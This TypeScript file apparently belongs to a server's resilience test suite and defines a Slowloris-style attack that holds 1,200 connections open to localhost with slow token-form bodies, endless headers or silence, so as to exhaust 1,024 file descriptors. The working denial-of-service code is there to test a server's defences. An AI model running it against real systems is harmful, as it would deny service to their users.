/** Connections held open: with more of them than descriptors, no other client could connect. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open } from "./sockets.js";

/** More than the server's descriptors. */
const connections = 1200;
const descriptorsMax = 1024;

/** Less than the ten seconds that a server may wait for more of a request. */
const byteEveryMilliseconds = 5000;

/** How a connection is held. */
const beginnings: readonly string[] = [
  // An endless token request form.
  "POST /token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\ng",
  // Endless headers.
  "GET /v2/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
  // Nothing at all.
  "",
];

async function hold(target: AttackTarget, beginning: string): Promise<void> {
  while (!target.signal.aborted) {
    const socket = open(target);
    if (beginning !== "") socket.write(beginning);
    const drip = setInterval(() => beginning !== "" && socket.write("x"), byteEveryMilliseconds);
    await ended(socket);
    clearInterval(drip);
    // A refused client retries after a pause, so that it does not keep the server busy.
    await sleep(100);
  }
}

export const descriptors: Attack = {
  name: "descriptors",
  what: `${connections} connections are held open by slow forms, slow headers and silence, with ${descriptorsMax} descriptors`,
  descriptorsMax,
  waitMillisecondsMax: 100,
  run: async (target) => {
    const holders = Array.from({ length: connections }, (_, index) =>
      hold(target, beginnings[index % beginnings.length] ?? ""),
    );
    await Promise.all(holders);
  },
};
